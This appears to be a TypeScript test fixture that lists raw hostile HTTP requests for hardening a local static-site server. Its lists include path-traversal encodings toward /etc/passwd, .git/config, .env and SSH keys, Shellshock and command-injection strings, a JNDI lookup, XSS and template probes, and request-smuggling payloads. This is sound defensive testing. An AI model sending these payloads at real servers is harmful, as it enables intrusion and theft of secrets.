/** One request as raw bytes, and its allowed results. */
export interface HostileRequest {
  readonly name: string;
  readonly bytes: Buffer;
  /** Statuses that are correct; `closed` for a connection that ends without one. */
  readonly allowed: readonly (number | 'closed')[];
}

const HEAD = 'Host: localhost\r\nConnection: close\r\n';

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const get = (target: string, headers = ''): Buffer =>
  latin(`GET ${target} HTTP/1.1\r\n${HEAD}${headers}\r\n`);

const NOT_THERE = [400, 404];
const MALFORMED = [400, 'closed'] as const;

/** Ways to write `../`, from plain to encodings that some decoders once accepted. */
const UPWARDS = [
  '../',
  '..%2f',
  '..%2F',
  '%2e%2e/',
  '%2e%2e%2f',
  '%2E%2E%2F',
  '.%2e/',
  '%2e./',
  '..%5c',
  '..\\',
  '%252e%252e%252f',
  '%252e%252e/',
  '..%252f',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '%c0%ae%c0%ae%c0%af',
  '..%c1%9c',
  '..%e0%80%af',
  '%e0%80%ae%e0%80%ae/',
  '%f0%80%80%ae%f0%80%80%ae/',
  '..%ef%bc%8f',
  '..;/',
  '....//',
  '..././',
  '.../',
  '..%00/',
  '%uff0e%uff0e/',
  '%u002e%u002e%u2215',
  '..%u2216',
  '\xc0\xae\xc0\xae/',
];

const SECRETS = ['etc/passwd', '.git/config', '.env'];

const traversal = UPWARDS.flatMap((up) =>
  SECRETS.map((secret) => ({
    name: `${JSON.stringify(up)} to ${secret}`,
    bytes: get(`/${up.repeat(6)}${secret}`),
    allowed: NOT_THERE,
  })),
).concat(
  ['/_astro/', '/articles/', '/faq/', '/heroes/'].flatMap((base) =>
    ['../../../../etc/passwd', '..%2f..%2f..%2f..%2fetc%2fpasswd', '%2e%2e/%2e%2e/.git/HEAD'].map((rest) => ({
      name: `${base}${rest}`,
      bytes: get(base + rest),
      allowed: NOT_THERE,
    })),
  ),
);

/** Files in the served folder that must not be served, each requested in several spellings. */
export const PLANTED = [
  '.git/HEAD',
  '.git/config',
  '.git/objects/pack/pack-1.pack',
  '.env',
  '.env.production',
  '.htpasswd',
  '.htaccess',
  '.DS_Store',
  '.ssh/id_rsa',
  '.npmrc',
  '.well-known/.secret',
  '_astro/page.js.map',
  '_astro/page.css.map',
  'articles/.draft.html',
] as const;

const planted = PLANTED.flatMap((file) =>
  [
    `/${file}`,
    `//${file}`,
    `/./${file}`,
    `/faq/../${file}`,
    `/${file.replaceAll('.', '%2e')}`,
    `/${file}?x=1`,
    `/${file.toUpperCase()}`,
    `/${file}/`,
  ].map((target) => ({ name: target, bytes: get(target), allowed: [...NOT_THERE, 301] })),
);

const configuration = [
  '/.nginx/server.conf',
  '/.nginx/http.conf',
  '/.nginx/',
  '/_headers',
  '/_redirects',
  '/.assetsignore',
].map((target) => ({ name: target, bytes: get(target), allowed: NOT_THERE }));

const strangeBytes = [
  ['a NUL', '/%00'],
  ['a NUL behind a page', '/faq%00.html'],
  ['a NUL before a dot file', '/%00.git/config'],
  ['a raw NUL', '/\0faq'],
  ['a line break', '/faq%0d%0aSet-Cookie:%20a=b'],
  ['a raw carriage return', '/faq\rX'],
  ['a lone percent', '/%'],
  ['half a percent', '/%2'],
  ['no hexadecimal', '/%zz'],
  ['overlong UTF-8', '/%c0%80'],
  ['a lone surrogate', '/%ed%a0%80'],
  ['a byte order mark', '/%ef%bb%bf'],
  ['right to left', '/%e2%80%aefaq'],
  ['a raw high byte', '/\xff\xfe'],
  ['a tab', '/faq\tX'],
  ['quotes', '/"><script>alert(1)</script>'],
  ['a template', '/{{7*7}}${7*7}'],
  ['a shell', '/;cat%20/etc/passwd|id'],
  ['a lookup', '/${jndi:ldap://x/a}'],
].map(([name = '', target = '']) => ({
  name: `${name} in the address`,
  bytes: get(target),
  allowed: [...NOT_THERE, 301, 'closed'] as (number | 'closed')[],
}));

const METHODS = [
  'POST',
  'PUT',
  'DELETE',
  'PATCH',
  'OPTIONS',
  'TRACE',
  'TRACK',
  'CONNECT',
  'PROPFIND',
  'MKCOL',
  'MOVE',
  'PURGE',
  'DEBUG',
  'get',
  'G ET',
  'GETGETGET',
  '',
  '\u0001',
];

const methods = METHODS.map((method) => ({
  name: `method ${JSON.stringify(method)}`,
  bytes: latin(`${method} / HTTP/1.1\r\n${HEAD}Content-Length: 0\r\n\r\n`),
  allowed: [400, 405, 'closed'] as (number | 'closed')[],
}));

const VERSIONS = [
  'HTTP/0.9',
  'HTTP/1.2',
  'HTTP/2.0',
  'HTTP/3',
  'HTTP/11.1',
  'HTTP/1.1.1',
  'HTTP/-1',
  'http/1.1',
  'HTTP',
  'HTCPCP/1.0',
  'HTTP/1.1 x',
  '',
];

const versions = VERSIONS.map((version) => ({
  name: `version ${JSON.stringify(version)}`,
  bytes: latin(`GET / ${version}\r\n${HEAD}\r\n`),
  allowed: [200, 400, 505, 'closed'] as (number | 'closed')[],
}));

const large = [1, 8, 16, 64, 512].flatMap((kilobytes) => {
  const text = 'a'.repeat(kilobytes * 1024);
  const allowed = [200, 400, 404, 414, 431, 494, 'closed'] as (number | 'closed')[];
  return [
    { name: `an address of ${kilobytes} kB`, bytes: get(`/${text}`), allowed },
    { name: `a query of ${kilobytes} kB`, bytes: get(`/faq?${text}`), allowed },
    { name: `a header of ${kilobytes} kB`, bytes: get('/faq', `X-A: ${text}\r\n`), allowed },
    { name: `a cookie of ${kilobytes} kB`, bytes: get('/faq', `Cookie: ${text}\r\n`), allowed },
    { name: `a header name of ${kilobytes} kB`, bytes: get('/faq', `${text}: x\r\n`), allowed },
    {
      name: `a body of ${kilobytes} kB`,
      bytes: get('/faq', `Content-Length: ${text.length}\r\n\r\n${text}`),
      allowed: [...allowed, 413],
    },
  ];
});

const manyHeaders = [100, 1_000, 20_000].map((count) => ({
  name: `${count} headers`,
  bytes: get('/faq', 'X-A: b\r\n'.repeat(count)),
  allowed: [200, 400, 431, 494, 'closed'] as (number | 'closed')[],
}));

const CHUNKED = 'Transfer-Encoding: chunked\r\n';
const SMUGGLED = 'GET /.git/config HTTP/1.1\r\nHost: localhost\r\n\r\n';

const smuggling = (
  [
    ['length and chunks', `Content-Length: 4\r\n${CHUNKED}\r\n0\r\n\r\n${SMUGGLED}`],
    ['chunks and length', `${CHUNKED}Content-Length: 4\r\n\r\n0\r\n\r\n${SMUGGLED}`],
    ['two lengths', `Content-Length: 0\r\nContent-Length: 44\r\n\r\n${SMUGGLED}`],
    ['a list of lengths', `Content-Length: 0, 44\r\n\r\n${SMUGGLED}`],
    ['a negative length', 'Content-Length: -1\r\n\r\n'],
    ['a length with a plus', `Content-Length: +0\r\n\r\n${SMUGGLED}`],
    ['a hexadecimal length', 'Content-Length: 0x10\r\n\r\n'],
    ['a length beyond all numbers', 'Content-Length: 99999999999999999999\r\n\r\n'],
    ['a space before the colon', `Content-Length : 0\r\n\r\n${SMUGGLED}`],
    ['a folded header', 'X-A: b\r\n c\r\n\r\n'],
    ['chunks in odd spelling', `Transfer-Encoding: xchunked\r\n\r\n${SMUGGLED}`],
    ['chunks twice', `${CHUNKED}${CHUNKED}\r\n0\r\n\r\n${SMUGGLED}`],
    ['chunks, identity', `Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n${SMUGGLED}`],
    ['chunks behind a tab', `Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n${SMUGGLED}`],
    ['a bad chunk', `${CHUNKED}\r\nzz\r\nabc\r\n0\r\n\r\n`],
    ['a chunk beyond all numbers', `${CHUNKED}\r\nffffffffffffffff\r\nabc\r\n`],
    ['a bare line feed', `X-A: b\nContent-Length: 0\n\n${SMUGGLED}`],
    ['two hosts', 'Host: other.example\r\n\r\n'],
    ['a host with a path', 'X: y\r\nHost: localhost/x\r\n\r\n'],
    ['an upgrade', 'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n'],
    ['a web socket', 'Upgrade: websocket\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n\r\n'],
    ['an expectation', 'Expect: 100-continue\r\nContent-Length: 5\r\n\r\nabcde'],
  ] as const
).map(([name, headers]) => ({
  name: `smuggling: ${name}`,
  bytes: latin(`GET /faq HTTP/1.1\r\nHost: localhost\r\n${headers}`),
  allowed: [100, 200, 400, 405, 411, 413, 417, 501, 'closed'] as (number | 'closed')[],
}));

const HEADERS = [
  'Range: bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7,8-8,9-9',
  `Range: bytes=${Array.from({ length: 1500 }, (_, index) => `${index}-`)
    .join(',')
    .slice(0, 7000)}`,
  'Range: bytes=9999999999999-',
  'Range: bytes=-99999999999999999999',
  'Range: bytes=5-2',
  'Range: lines=1-2',
  'Range: bytes=a-b',
  'If-None-Match: "' + 'x'.repeat(500) + '"',
  'If-Modified-Since: yesterday',
  'If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT',
  'If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT',
  'If-Range: "x"\r\nRange: bytes=0-5',
  'Accept-Encoding: br;q=2, *;q=0',
  'Accept-Encoding: identity;q=0, *;q=0',
  'Accept-Encoding: gzip, gzip, gzip, gzip',
  'X-Forwarded-Host: evil.example',
  'X-Forwarded-For: 127.0.0.1',
  'X-Original-URL: /.git/config',
  'X-Rewrite-URL: /.git/config',
  'X-Accel-Redirect: /.git/config',
  'X-HTTP-Method-Override: DELETE',
  'Referer: https://evil.example/',
  'Cookie: a=b; a=c; __proto__=d',
  'Authorization: Basic ' + 'A'.repeat(900),
  '() { :;}; echo: x',
  'User-Agent: () { :;}; /bin/cat /etc/passwd',
];

const headers = HEADERS.map((header) => ({
  name: `header ${header.slice(0, 60)}`,
  bytes: get('/faq', `${header}\r\n`),
  allowed: [200, 206, 304, 400, 406, 412, 416] as number[],
}));

const malformed = (
  [
    ['nothing but line breaks', '\r\n\r\n\r\n\r\n'],
    ['noise', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'],
    ['TLS to the plain port', '\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03'],
    ['the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
    ['an asterisk', `GET * HTTP/1.1\r\n${HEAD}\r\n`],
    ['a whole address', `GET http://evil.example/ HTTP/1.1\r\n${HEAD}\r\n`],
    ['a file address', `GET file:///etc/passwd HTTP/1.1\r\n${HEAD}\r\n`],
    ['a proxy', `CONNECT evil.example:443 HTTP/1.1\r\n${HEAD}\r\n`],
    ['no host', 'GET / HTTP/1.1\r\nConnection: close\r\n\r\n'],
    ['no path', `GET HTTP/1.1\r\n${HEAD}\r\n`],
    ['no slash', `GET faq HTTP/1.1\r\n${HEAD}\r\n`],
    ['a header without a colon', `GET / HTTP/1.1\r\n${HEAD}nonsense\r\n\r\n`],
    ['a header that is a colon', `GET / HTTP/1.1\r\n${HEAD}: x\r\n\r\n`],
    ['a NUL in a header', `GET / HTTP/1.1\r\n${HEAD}X: a\0b\r\n\r\n`],
    ['a letter outside Latin in a header name', `GET / HTTP/1.1\r\n${HEAD}X\xe9: b\r\n\r\n`],
    ['SMTP', 'EHLO evil.example\r\nMAIL FROM:<a@b>\r\n'],
    ['Redis', '*1\r\n$4\r\nINFO\r\n'],
  ] as const
).map(([name, text]) => ({
  name: `malformed: ${name}`,
  bytes: latin(text),
  allowed: [...MALFORMED, 200, 404, 405, 505] as (number | 'closed')[],
}));

/** All hostile requests. */
export const HOSTILE_REQUESTS: readonly HostileRequest[] = [
  ...traversal,
  ...planted,
  ...configuration,
  ...strangeBytes,
  ...methods,
  ...versions,
  ...large,
  ...manyHeaders,
  ...smuggling,
  ...headers,
  ...malformed,
];
